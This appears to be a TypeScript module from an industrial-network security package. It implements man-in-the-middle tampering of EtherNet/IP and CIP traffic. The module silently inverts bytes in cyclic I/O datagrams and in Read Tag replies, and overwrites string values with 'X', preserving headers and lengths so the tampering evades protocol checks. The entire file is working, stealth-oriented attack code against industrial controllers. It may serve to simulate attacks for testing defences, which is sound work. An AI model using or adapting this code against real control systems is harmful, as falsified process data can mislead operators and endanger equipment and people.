import { messageRouterReply, stringHandle, structureTypeCode, tagServices } from '@cordon/core/cip'
import {
  connectedMessageOf,
  encapsulationMessage,
  ioFrameHeaderLength,
  ioFrameView,
  parseIoFrame,
  sendData,
  unconnectedMessageOf,
} from '@cordon/core/enip'
import { MalformedMessage } from '@cordon/core/errors'
import { decode, Reader } from '@cordon/core/wire'

/** Bytes of item 0x00B1 that may all be sequence count and run/idle header: such datagrams stay as they are. */
const headerRoom = 6

const view = ioFrameView()

/**
 * What the man in the middle does to a class 0/1 datagram: the last byte of its data is inverted, sequence count and
 * run/idle header stay right, so that nobody notices by the protocol. Changes `datagram` in place; true when it did.
 */
export function alterIo(datagram: Uint8Array): boolean {
  if (!parseIoFrame(datagram, view) || view.dataLength <= headerRoom) return false
  const last = ioFrameHeaderLength + view.dataLength - 1
  datagram[last] = ~(datagram[last] ?? 0) & 0xff
  return true
}

/**
 * What the man in the middle does to an encapsulated message on its way from the unit: in the reply to Read Tag the
 * characters of a string become `X`, of any other value the last byte is inverted. Lengths stay, so no frame around it
 * needs a change. Changes `message` in place; true when it did.
 */
export function alterReply(message: Uint8Array): boolean {
  try {
    const { command, data } = decode(encapsulationMessage, message)
    if (command !== 'sendRRData' && command !== 'sendUnitData') return false
    const sent = decode(sendData, data)
    const bytes = command === 'sendRRData' ? unconnectedMessageOf(sent) : connectedMessageOf(sent)?.message
    if (bytes === undefined) return false
    const reply = decode(messageRouterReply, bytes)
    return reply.service === tagServices.readTag && reply.status === 0 && alterValue(reply.data)
  } catch (error) {
    // What cannot be read is passed on as it is.
    if (error instanceof MalformedMessage) return false
    throw error
  }
}

/** Data of a Read Tag reply: type code, behind 0x02A0 a handle, then the value. */
function alterValue(data: Uint8Array): boolean {
  const reader = new Reader(data)
  if (reader.u16() === structureTypeCode) {
    if (reader.u16() !== stringHandle) return false
    const length = reader.u32()
    if (length > reader.remaining) return false
    data.fill(0x58, data.length - reader.remaining, data.length - reader.remaining + length)
    return length > 0
  }
  if (reader.remaining === 0) return false
  const last = data.length - 1
  data[last] = ~(data[last] ?? 0) & 0xff
  return true
}
